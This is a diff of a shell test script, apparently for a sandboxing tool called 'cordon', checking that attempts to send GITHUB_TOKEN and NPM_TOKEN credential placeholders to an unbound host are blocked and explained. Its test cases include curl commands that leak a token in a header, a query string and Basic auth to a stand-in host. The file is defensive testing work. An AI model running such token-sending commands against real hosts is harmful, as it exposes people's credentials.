@@ -90,6 +90,12 @@ print(r.status, r.read().decode().replace(chr(10), ' '))"
                 "req:a.example.test:$P~credentials: the placeholder of GITHUB_TOKEN (secret github-token) was sent to a host it is not bound to*" \
                 - $c -- sh -c "curl -s -o /dev/null --max-time 20 -w '%{http_code}/%{http_connect}\n' \
                 -H \"X-Leak: \$GITHUB_TOKEN\" http://a.example.test:$P/hello/@M@"
+        run_in "$WS" "$CORDON" explain --events "$EV" --status 0
+        case $(cat "$LAST_OUT") in
+        *"request GET a.example.test:$P/hello/$MARK (credential placeholder)"*"no policy change allows it: credentials: the placeholder of GITHUB_TOKEN"*)
+                ok "creds: cordon explain says no policy change allows it, naming the credential" ;;
+        *) not_ok "creds: cordon explain says no policy change allows it" "$(cat "$LAST_OUT")" ;;
+        esac
         net "creds: ... in the query too" 0 "403/000" "req:a.example.test:$P~*GITHUB_TOKEN*" - \
                 $c -- sh -c "$CREDS_CURL \"http://a.example.test:$P/hello/@M@?k=\$GITHUB_TOKEN\""
         net "creds: ... and hidden in Basic" 0 "403/000" "req:a.example.test:$P~*NPM_TOKEN*" - \
